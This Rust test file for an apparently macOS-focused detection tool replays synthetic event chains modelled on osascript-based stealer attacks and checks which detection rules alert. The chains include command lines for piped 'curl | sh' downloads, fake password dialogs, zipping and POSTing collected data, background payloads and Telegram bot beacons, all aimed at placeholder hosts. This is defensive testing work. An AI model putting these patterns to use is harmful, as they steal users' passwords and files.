//! Attack chains of 2023 to 2026, each in a few lines: which rules alert with those that are on by default, and which
//! with all; what stays silent is named in docs/rules.md.

use std::collections::BTreeMap;
use std::fs;

use serde_json::{Value as Json, json};

use crate::util::{Run, osawatch};

/// A chain. A line of it is `<seconds> <id>=<program> [< <parent>] [: <argument> …]` for a start, `<seconds> <id> -> <address>
/// [<host name>]` for a connection and `<seconds> <id> end` for an exit. `!` before an id: it is signed as the word
/// after `!`.
struct Chain {
    name: &'static str,
    events: &'static str,
    /// The rules that alert, of those that are on.
    alerts: &'static [&'static str],
    /// Those of rules that are shipped off.
    off: &'static [&'static str],
    /// What docs/rules.md says of a silent one.
    silent: &'static str,
}

const CHAIN: Chain = Chain { name: "", events: "", alerts: &[], off: &[], silent: "" };

const CHAINS: [Chain; 55] = [
    Chain {
        name: "a pasted curl | osascript and its child curl",
        events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 o=osascript < z; 2 c -> 93.184.216.34; 3 d=curl < o; 4 d -> 93.184.216.35",
        alerts: &["osascript-piped-download"],
        ..CHAIN
    },
    Chain {
        name: "a pasted curl | sh, a dialog and an upload by the shell's curl",
        events: "0 z=zsh; 1 s=bash < z; 2 o=osascript < s : -e 'display dialog \"Password\" with hidden answer'; 3 o end; 30 u=curl < s; 31 u -> 93.184.216.34",
        alerts: &["osascript-dialog-sibling-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an upload by a child after 90 s",
        events: "0 o=osascript : a.scpt; 88 s=sh < o; 89 u=curl < s; 90 u -> 93.184.216.34",
        alerts: &["osascript-late-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a program that asks for the password by osascript and uploads itself",
        events: "0 b=Setup; 1 o=osascript < b : -e 'display dialog \"Password\" with hidden answer'; 20 o end; 21 b -> 93.184.216.34",
        alerts: &["osascript-dialog-parent-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "JavaScript for Automation that beacons",
        events: "0 o=osascript : -l JavaScript -e 1; 5 o -> 93.184.216.34; 65 o -> 93.184.216.34; 125 o -> 93.184.216.34",
        alerts: &["osascript-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "osascript that waits ten minutes before it connects",
        events: "0 z=zsh; 1 o=osascript < z : a.js; 601 o -> 93.184.216.34",
        alerts: &["osascript-late-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "Script Editor, curl | osascript and a child curl",
        events: "0 e=Script Editor; 1 s=sh < e; 2 c=curl < s; 2 o=osascript < s; 3 c -> 93.184.216.34; 4 d=curl < o; 5 d -> 93.184.216.35",
        alerts: &["script-editor-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "Script Editor itself",
        events: "0 e=Script Editor; 40 e -> 93.184.216.34",
        alerts: &["script-editor-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an applet that runs curl",
        events: "0 a=applet; 1 s=sh < a; 2 c=curl < s; 3 c -> 93.184.216.34",
        alerts: &["script-host-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an applet that connects itself",
        events: "0 a=applet; 3 a -> 93.184.216.34",
        alerts: &["script-host-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a droplet that connects itself",
        events: "0 a=droplet; 3 a -> 93.184.216.34",
        alerts: &["script-host-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a background job that launchd adopts",
        events: "0 o=osascript : a.scpt; 1 s=sh < o; 2 p=python3 < s; 2 s end; 2 o end; 3 p -> 93.184.216.34",
        alerts: &["osascript-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "OSAKit in a program of the attacker's",
        events: "0 b=update; 1 b -> 93.184.216.34",
        silent: "AppleScript that another program runs in itself",
        ..CHAIN
    },
    Chain {
        name: "NSAppleScript in another program, and its shell",
        events: "0 b=update; 1 s=sh < b; 2 c=curl < s; 3 c -> 93.184.216.34",
        silent: "AppleScript that another program runs in itself",
        ..CHAIN
    },
    Chain {
        name: "automator and the runner's curl",
        events: "0 m=automator : -i x a.workflow; 1 r=com.apple.automator.runner; 2 s=sh < r; 3 c=curl < s; 4 c -> 93.184.216.34",
        alerts: &["automator-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an application saved from Automator",
        events: "0 a=Automator Application Stub; 1 a -> 93.184.216.34",
        alerts: &["automator-app-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a Quick Action",
        events: "0 w=WorkflowServiceRunner; 1 s=sh < w; 2 c=curl < s; 3 c -> 93.184.216.34",
        alerts: &["script-host-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an application script in Python",
        events: "0 w=com.apple.foundation.UserScriptService; 1 p=python3 < w; 2 p -> 93.184.216.34",
        alerts: &["script-host-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a shortcut",
        events: "0 z=zsh; 1 s=shortcuts < z : run x; 2 b=BackgroundShortcutRunner; 3 b -> 93.184.216.34",
        off: &["shortcuts-network-connection"],
        silent: "Shortcuts",
        ..CHAIN
    },
    Chain {
        name: "a shortcut by the helper of the Shortcuts application",
        events: "0 s=shortcuts : run x; 2 b=ShortcutsMacHelper; 3 b -> 93.184.216.34",
        off: &["shortcuts-network-connection"],
        silent: "Shortcuts",
        ..CHAIN
    },
    Chain {
        name: "a payload that launchctl submits",
        events: "0 o=osascript : a.scpt; 1 l=launchctl < o : submit -l x -- /tmp/.x; 2 x=/tmp/.x < 1; 3 x -> 93.184.216.34",
        off: &["osascript-launchd-network-connection"],
        silent: "a program that launchd starts for a script",
        ..CHAIN
    },
    Chain {
        name: "a session that is kept open",
        events: "0 o=osascript : a.js; 900 o <- 93.184.216.34",
        alerts: &["osascript-session-kept-open"],
        ..CHAIN
    },
    Chain {
        name: "a command in a window of Terminal",
        events: "0 b=Bad; 1 o=osascript < b : -e 'tell app \"Terminal\" to do script \"curl x\"'; 2 t=Terminal; 2 z=zsh < t; 3 c=curl < z; 4 c -> 93.184.216.34",
        off: &["osascript-terminal-network-connection"],
        silent: "a terminal",
        ..CHAIN
    },
    Chain {
        name: "a payload in the background that connects after osascript has ended",
        events: "0 o=osascript : -e 'do shell script \"nohup /tmp/.p &\"'; 1 s=sh < o; 1 p=/tmp/.p < s; 2 s end; 2 o end; 60 p -> 93.184.216.34",
        silent: "what a script leaves in the background",
        ..CHAIN
    },
    Chain {
        name: "a script that is downloaded to a file first",
        events: "0 z=bash; 1 c=curl < z : -o /tmp/f https://a.example; 1 c -> 93.184.216.34; 2 c end; 2 o=osascript < z",
        silent: "a script that is downloaded to a file first",
        ..CHAIN
    },
    Chain {
        name: "an address that a browser opens",
        events: "0 o=osascript : -e 'open location \"https://a.example\"'; 1 s=Safari; 2 s -> 93.184.216.34",
        silent: "`open location`",
        ..CHAIN
    },
    Chain {
        name: "a launch agent whose osascript connects after five minutes",
        events: "0 o=osascript < 1 : /Users/a/.x.scpt; 300 o -> 93.184.216.34",
        alerts: &["osascript-late-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "osascript under another name",
        events: "0 !com.apple.osascript u=/private/tmp/updater; 1 !com.apple.osascript u -> 93.184.216.34",
        alerts: &["osascript-renamed-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "curl of an osascript under another name, after a minute",
        events: "0 !com.apple.osascript u=/private/tmp/updater : -e 'do shell script \"curl https://a.example | sh\"'; 60 s=sh < u; 61 c=curl < s; 62 c -> 93.184.216.34",
        alerts: &["osascript-renamed-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an osascript under another name that beacons after an hour",
        events: "0 !com.apple.osascript u=/private/tmp/updater : a.js; 3500 u -> 93.184.216.34",
        alerts: &["osascript-renamed-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a download piped into osascript under another name, whose curl connects",
        events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 !com.apple.osascript u=/private/tmp/updater < z; 3 d=curl < u; 4 d -> 93.184.216.35",
        alerts: &["osascript-piped-download"],
        ..CHAIN
    },
    Chain {
        name: "a dialog of an osascript under another name, and an upload",
        events: "0 b=Setup; 1 !com.apple.osascript o=/private/tmp/.o < b : -e 'display dialog \"Password\" with hidden answer'; 20 o end; 21 b -> 93.184.216.34",
        alerts: &["osascript-dialog-parent-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an applet that asks for the password for a minute, then curl | sh",
        events: "0 a=applet; 60 s=sh < a : -c 'curl -s https://a.example | sh'; 61 c=curl < s; 62 c -> 93.184.216.34",
        alerts: &["script-host-late-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a payload that an applet leaves in the background",
        events: "0 a=applet; 1 s=sh < a; 1 p=/tmp/.p < s; 2 s end; 2 a end; 600 p -> 93.184.216.34",
        alerts: &["script-host-late-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "an applet that connects itself after five minutes",
        events: "0 a=applet; 300 a -> 93.184.216.34",
        alerts: &["script-host-late-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a Quick Action of a service that runs for an hour",
        events: "0 w=WorkflowServiceRunner; 3500 s=sh < w; 3501 c=curl < s; 3502 c -> 93.184.216.34",
        alerts: &["script-host-late-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a shell of Script Editor that packs for a minute and then uploads",
        events: "0 e=Script Editor; 1 s=sh < e; 61 c=curl < s; 62 c -> 93.184.216.34",
        alerts: &["script-host-late-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a payload of root that has sudo show the dialog to the user",
        events: "0 b=helperd; 1 s=sudo < b : -u ada osascript -e 'display dialog \"Password\" with hidden answer'; 2 o=osascript < s : -e 'display dialog \"Password\" with hidden answer'; 20 b -> 93.184.216.34",
        alerts: &["osascript-dialog-parent-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a download with a header that reads like an option, into osascript with arguments",
        events: "0 z=zsh; 1 c=curl < z : -H 'x: -o' https://a.example; 1 o=osascript < z : -l JavaScript - id; 2 c -> 93.184.216.34",
        alerts: &["osascript-piped-download"],
        ..CHAIN
    },
    Chain {
        name: "an applet under another name",
        events: "0 a=Installer Helper; 1 s=sh < a; 2 c=curl < s; 3 c -> 93.184.216.34",
        silent: "an applet whose executable has another name",
        ..CHAIN
    },
    Chain {
        name: "a dialog of a shell script, and an upload by the program that ran it",
        events: "0 b=node; 1 s=bash < b : ask.sh; 2 o=osascript < s : -e 'display dialog \"Password\" with hidden answer'; 20 b -> 93.184.216.34",
        silent: "a dialog of a program whose shell script asks",
        ..CHAIN
    },
    Chain {
        name: "a download whose header is an option for a file",
        events: "0 z=zsh; 1 c=curl < z : -H -o https://a.example; 1 o=osascript < z; 2 c -> 93.184.216.34",
        silent: "a download that `curl -H -o` and the like hide",
        ..CHAIN
    },
    Chain {
        name: "a package's script",
        events: "0 n=node; 1 s=sh < n; 2 o=osascript < s : -e 1; 3 c=curl < o; 4 c -> 93.184.216.34",
        alerts: &["osascript-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a package whose script in the background fetches a payload and leaves it running",
        events: "0 n=node; 1 s=sh < n : -c 'nohup osascript /tmp/6 &'; 1 o=osascript < s : /tmp/6; 1 s end; 2 h=sh < o; 2 c=curl < h : -o /Library/Caches/com.example.mond -d x -s http://a.example:8000/6; 3 c -> 93.184.216.34; 4 m=/Library/Caches/com.example.mond < h; 5 h end; 5 o end; 64 m -> 93.184.216.35",
        alerts: &["osascript-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a launch agent that asks the name service for its address and runs JavaScript",
        events: "0 b=bash < 1 : /Users/a/.x; 1 d=dig < b : +short TXT a.example; 1 d end; 2 o=osascript < b : -l JavaScript -e 1; 3 s=sh < o; 3 c=curl < s; 4 c -> 93.184.216.35",
        alerts: &["osascript-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a program that asks by a shell and uploads itself",
        events: "0 b=Converter; 1 s=sh < b : -c 'osascript -e \"display dialog 1 with hidden answer\"'; 1 o=osascript < s : -e 'display dialog 1 with hidden answer'; 20 o end; 40 b -> 93.184.216.34",
        alerts: &["osascript-dialog-parent-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a pasted base64 -d | bash, its payload's dialog and upload",
        events: "0 z=zsh; 1 d=base64 < z : -d; 1 b=bash < z; 2 c=curl < b : -s https://a.example; 2 n=bash < b; 3 c -> 93.184.216.34; 4 o=osascript < n : -e 'display dialog 1 with hidden answer'; 20 o end; 25 t=ditto < n : -c -k /tmp/o /tmp/o.zip; 27 u=curl < n : -X POST --data-binary @/tmp/o.zip https://a.example; 28 u -> 93.184.216.34",
        alerts: &["osascript-dialog-sibling-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "one script that asks, collects and uploads by its own shell",
        events: "0 b=Installer; 1 o=osascript < b : -e 'display dialog 1 with hidden answer'; 9 s=sh < o; 9 p=system_profiler < s; 70 t=sh < o; 71 c=curl < t : -X POST --data-binary @/tmp/o.zip http://a.example; 72 c -> 93.184.216.34",
        alerts: &["osascript-dialog-sibling-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a link to Script Editor whose script fetches a program",
        events: "0 e=Script Editor < 1; 5 s=sh < e : -c 'curl -fsSL https://a.example | zsh'; 5 c=curl < s; 5 y=zsh < s; 6 c -> 93.184.216.34; 8 o=osascript < y : -e 'display dialog 1 with hidden answer'; 20 o end; 30 u=curl < y; 31 u -> 93.184.216.35",
        alerts: &["script-editor-descendant-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a dialog of a script by a package's script",
        events: "0 n=node; 1 s=sh < n : -c 'node setup.js'; 1 m=node < s; 2 h=sh < m : -c 'osascript -l JavaScript -e app.displayDialog(1,{hiddenAnswer:true})'; 2 o=osascript < h : -l JavaScript -e 'app.displayDialog(1,{hiddenAnswer:true})'; 9 o end; 12 m -> 93.184.216.34",
        alerts: &["osascript-dialog-parent-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a script that hides the window of the terminal, and a payload of the same shell",
        events: "0 z=zsh; 1 p=/tmp/update < z; 1 o=osascript < z : -e 'tell application \"Terminal\" to set visible of front window to false'; 3 p -> 93.184.216.34",
        silent: "beside an osascript",
        ..CHAIN
    },
    Chain {
        name: "JavaScript that a substitution downloads",
        events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 2 c end; 2 o=osascript < z : -l JavaScript -e 'var a = 1'; 40 o -> 93.184.216.35",
        alerts: &["osascript-late-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a dialog of a script that a shell gives by a here-document, and an upload",
        events: "0 b=Setup; 1 o=osascript < b; 20 o end; 21 b -> 93.184.216.34",
        silent: "a dialog of a script that is no argument",
        ..CHAIN
    },
    Chain {
        name: "a bot of a messenger, spoken to at once",
        events: "0 o=osascript : a.js; 2 o -> 93.184.216.35 api.telegram.org; 4 o -> 93.184.216.35 api.telegram.org",
        alerts: &["osascript-abused-service-connection", "osascript-network-connection"],
        ..CHAIN
    },
    Chain {
        name: "a bot of a messenger, first spoken to after a minute",
        events: "0 o=osascript : a.js; 40 o -> 93.184.216.34; 60 o -> 93.184.216.35 api.telegram.org",
        alerts: &["osascript-late-network-connection", "osascript-abused-service-connection"],
        ..CHAIN
    },
];

/// The words of a command, quoted ones as one.
fn words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    for (at, part) in text.split('\'').enumerate() {
        match at % 2 {
            0 => words.extend(part.split_whitespace().map(str::to_owned)),
            _ => words.push(part.to_owned()),
        }
    }
    words
}

/// A line of a chain as an ECS document; `starts` holds the processes by their id.
fn document(host: &str, line: &str, starts: &mut BTreeMap<String, Json>) -> Json {
    let (seconds, rest) = line.trim().split_once(' ').unwrap();
    let seconds: i64 = seconds.parse().unwrap();
    let (signing_id, rest) = match rest.strip_prefix('!').and_then(|rest| rest.split_once(' ')) {
        Some((signing_id, rest)) => (Some(signing_id), rest),
        None => (None, rest),
    };
    let mut document = json!({
        "@timestamp": format!("2026-05-06T07:{:02}:{:02}Z", seconds / 60, seconds % 60),
        "host": { "id": host, "os": { "type": "macos" } },
    });
    let flow = [(" -> ", "start"), (" <- ", "end")]
        .into_iter()
        .find_map(|(arrow, kind)| Some((rest.split_once(arrow)?, kind)));
    if let Some(((id, to), kind)) = flow {
        let mut to = to.split_whitespace();
        document["event"] = json!({ "category": ["network"], "type": [kind], "action": "connection_attempted" });
        document["process"] = starts[id].clone();
        document["destination"] = json!({ "ip": to.next(), "port": 443 });
        if let Some(domain) = to.next() {
            document["destination"]["domain"] = domain.into();
        }
        if kind == "end" {
            document["event"]["duration"] = json!(seconds * 1_000_000_000);
        }
        return document;
    }
    if let Some(id) = rest.strip_suffix(" end") {
        document["event"] = json!({ "category": ["process"], "type": ["end"], "action": "end" });
        document["process"] = starts[id].clone();
        return document;
    }
    let (who, args) = rest.split_once(" : ").unwrap_or((rest, ""));
    let (who, parent) = who.split_once(" < ").map_or((who, None), |(who, parent)| (who, Some(parent)));
    let (id, program) = who.split_once('=').unwrap();
    let name = program.rsplit('/').next().unwrap();
    let args: Vec<String> = std::iter::once(name.to_owned()).chain(words(args)).collect();
    let mut process = json!({
        "entity_id": id, "name": name, "pid": 500 + starts.len(), "args": args, "command_line": args.join(" "),
        "executable": if program.starts_with('/') { program.to_owned() } else { format!("/usr/bin/{program}") },
    });
    if let Some(signing_id) = signing_id {
        process["code_signature"] = json!({ "exists": true, "signing_id": signing_id });
    }
    process["parent"] = match parent.and_then(|parent| starts.get(parent)) {
        Some(parent) => json!({ "entity_id": parent["entity_id"], "name": parent["name"], "pid": parent["pid"] }),
        None => json!({ "entity_id": "launchd", "name": "launchd", "pid": 1 }),
    };
    starts.insert(id.to_owned(), process.clone());
    document["event"] = json!({ "category": ["process"], "type": ["start"], "action": "exec" });
    document["process"] = process;
    document
}

/// A replay of all chains, each on a host of its own.
fn replay(further: &[&str]) -> Run {
    replay_of(CHAINS.iter().map(|chain| (chain.name, chain.events)), further)
}

/// A replay of events, those of each host.
fn replay_of<'c>(chains: impl Iterator<Item = (&'c str, &'c str)>, further: &[&str]) -> Run {
    let mut lines = String::new();
    for (host, events) in chains {
        let mut starts = BTreeMap::new();
        for line in events.split(';') {
            lines += &format!("{}\n", document(host, line, &mut starts));
        }
    }
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("chains.ndjson");
    fs::write(&file, lines).unwrap();
    osawatch(&[&["replay", "--sort", "--output", "ndjson", &file.display().to_string()], further].concat()).exits(0)
}

/// The rules of the alerts of a chain.
fn rules<'r>(alerts: &'r [Json], chain: &Chain) -> Vec<&'r str> {
    let of = alerts.iter().filter(|alert| alert["host"]["id"] == chain.name);
    of.map(|alert| alert["rule"]["id"].as_str().unwrap()).collect()
}

#[test]
fn each_chain_alerts_as_it_says_and_at_most_twice() {
    let (mut by_default, mut with_all) = (0, 0);
    let on = replay(&[]).alerts();
    let shipped_off = ["launchd", "terminal"].map(|kind| format!("osascript-{kind}-network-connection"));
    let mut enable = vec!["--enable", "shortcuts-network-connection"];
    shipped_off.iter().for_each(|rule| enable.extend(["--enable", rule]));
    let all = replay(&enable).alerts();
    for chain in &CHAINS {
        assert_eq!(rules(&on, chain), chain.alerts, "{}", chain.name);
        assert_eq!(rules(&all, chain), [chain.alerts, chain.off].concat(), "{} with all rules", chain.name);
        assert!(chain.alerts.len() + chain.off.len() <= 2, "{}", chain.name);
        by_default += usize::from(!chain.alerts.is_empty());
        with_all += usize::from(!chain.alerts.is_empty() || !chain.off.is_empty());
    }
    assert!(by_default >= 20 && with_all >= 22, "{by_default} by default, {with_all} with all rules");
}

#[test]
fn every_silent_chain_is_named_in_the_documentation() {
    let text = include_str!("../docs/rules.md");
    let (_, section) = text.split_once("## What is not seen").expect("docs/rules.md says what is not seen");
    let section = section.split("\n## ").next().unwrap();
    for chain in CHAINS.iter().filter(|chain| chain.alerts.is_empty()) {
        assert!(!chain.silent.is_empty() && section.contains(chain.silent), "{}: {:?}", chain.name, chain.silent);
    }
}

#[test]
fn every_destination_of_a_chain_is_told_in_an_alert_or_in_a_follow_up_of_it() {
    let documents = replay(&[]).documents();
    for chain in CHAINS.iter().filter(|chain| !chain.alerts.is_empty()) {
        let of: Vec<&Json> = documents.iter().filter(|document| document["host"]["id"] == chain.name).collect();
        let ids: Vec<&Json> = of.iter().map(|document| &document["event"]["id"]).collect();
        let mut told = String::new();
        for document in of {
            told += &document["destination"]["ip"].to_string();
            let follow_up = &document["osawatch"]["follow_up"];
            told += &follow_up["destinations"].to_string();
            assert!(follow_up.is_null() || ids.contains(&&follow_up["alert_id"]), "{}", chain.name);
        }
        for connection in chain.events.split(';').filter_map(|line| line.split_once(" -> ")) {
            let address = connection.1.split_whitespace().next().unwrap();
            assert!(told.contains(address), "{}: {address} in {told}", chain.name);
        }
    }
}

#[test]
fn a_piped_download_is_told_with_what_ran_it_whatever_that_is_called() {
    let alerts = replay(&[]).alerts();
    let name = "a download piped into osascript under another name, whose curl connects";
    let alert = alerts.iter().find(|alert| alert["host"]["id"] == name).unwrap();
    assert_eq!(alert["osawatch"]["download"]["command_line"], "curl -s https://a.example", "{alert}");
    assert_eq!(alert["process"]["executable"], "/private/tmp/updater", "{alert}");
    let reason = alert["event"]["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("updater (pid 502)") && reason.ends_with("the download is curl -s https://a.example"),
        "{reason}"
    );
}

#[test]
fn a_download_feeds_osascript_unless_it_writes_a_file_wherever_its_option_stands() {
    let piped = [
        "c=curl < z : -fsSL https://a.example; 1 o=osascript < z",
        "c=curl < z : -s https://a.example; 1 t=tee < z : /tmp/f; 1 o=osascript < z : -",
        "c=curl < z : -H 'Authorization: o' -so- https://a.example; 1 o=osascript < z : -l JavaScript",
        "c=curl < z : --output - https://a.example; 1 o=osascript < z : /dev/stdin",
        "c=curl < z : -s https://a.example; 1 o=osascript < z : /dev/fd/63",
        "c=wget < z : -qO- https://a.example; 1 o=osascript < z",
        "c=nscurl < z : https://a.example; 1 o=osascript < z",
    ];
    let written = [
        "c=curl < z : -H 'Authorization: o' -o /tmp/f https://a.example; 1 o=osascript < z",
        "c=curl < z : -s https://a.example -o /tmp/f -k; 1 o=osascript < z",
        "c=curl < z : --output=/tmp/f https://a.example; 1 o=osascript < z",
        "c=curl < z : -Lo /tmp/f https://a.example; 1 o=osascript < z",
        "c=curl < z : -fsSLo/tmp/f https://a.example; 1 o=osascript < z",
        "c=curl < z : -OJ https://a.example; 1 o=osascript < z",
        "c=wget < z : -qO /tmp/f https://a.example; 1 o=osascript < z",
        "c=nscurl < z : -o /tmp/f https://a.example; 1 o=osascript < z",
        "c=curl < z : -s https://a.example; 1 o=osascript < z : -e beep",
        "c=curl < z : -s https://a.example; 1 o=osascript < z : /tmp/f",
    ];
    let events: Vec<String> = piped.iter().chain(&written).map(|events| format!("0 z=zsh; 1 {events}")).collect();
    let alerts = replay_of(events.iter().map(|events| (events.as_str(), events.as_str())), &[]).alerts();
    let alerted: Vec<&str> = alerts.iter().map(|alert| alert["host"]["id"].as_str().unwrap()).collect();
    let wanted: Vec<&str> = events.iter().take(piped.len()).map(String::as_str).collect();
    assert_eq!(alerted, wanted);
    for alert in alerts {
        let download = alert["osawatch"]["download"]["command_line"].as_str().unwrap_or_default();
        assert!(download.contains("https://a.example"), "{alert}");
        assert!(alert["event"]["reason"].as_str().unwrap().ends_with(download), "{alert}");
    }
}

#[test]
fn ordinary_administration_makes_no_alert() {
    let events = [
        "0 z=zsh; 1 c=curl < z : -fsSL https://a.example/install.sh; 1 b=bash < z; 1 c -> 93.184.216.34; 2 d=curl < b : -fsSL https://a.example; 2 d -> 93.184.216.34; 3 g=git < b; 3 g -> 93.184.216.35",
        "0 j=jamf; 1 s=sh < j; 2 c=curl < s : -so /tmp/a.pkg https://a.example; 2 c -> 93.184.216.34; 9 c end; 10 i=installer < s : -pkg /tmp/a.pkg -target /; 20 o=osascript < s : -e 'display notification \"done\"'; 20 o end; 21 u=curl < s; 21 u -> 93.184.216.34",
        "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 q=jq < z : -r .a; 1 c -> 93.184.216.34; 1 c end; 2 o=osascript < z : -e 'set volume 3'; 2 o end",
        "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 t=tee < z : /tmp/f; 1 p=python3 < z : -m json.tool; 1 c -> 93.184.216.34; 1 c end; 9 o=osascript < z; 9 o end",
        "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 !com.example.tool o=/usr/local/bin/tool < z; 1 c -> 93.184.216.34",
        "0 z=zsh; 1 o=osascript < z : -e 'tell application \"Finder\" to activate'; 1 o end; 5 c=curl < z; 5 c -> 93.184.216.34",
        "0 n=node; 1 s=sh < n : -c 'node-gyp rebuild'; 2 c=curl < s : -sLo /tmp/n.tgz https://a.example; 2 c -> 93.184.216.34; 3 o=osascript < n : -e 'id of application \"Xcode\"'; 3 o end",
    ];
    let alerts = replay_of(events.iter().map(|events| (*events, *events)), &[]).alerts();
    assert!(alerts.is_empty(), "{alerts:?}");
}
